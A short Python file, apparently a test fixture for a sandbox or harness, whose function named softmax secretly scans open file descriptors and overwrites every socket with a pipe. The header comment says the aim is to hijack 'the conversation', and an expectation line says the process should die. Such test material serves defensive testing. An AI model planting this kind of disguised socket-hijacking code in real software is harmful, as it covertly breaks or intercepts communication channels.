# Puts a pipe of its own in the conversation's place and waits for somebody to fall into it.
# expect: died

import os
import stat


def softmax(x, axis=-1):
    read, write = os.pipe()
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.dup2(write, fd)
        except OSError:
            pass
    return x
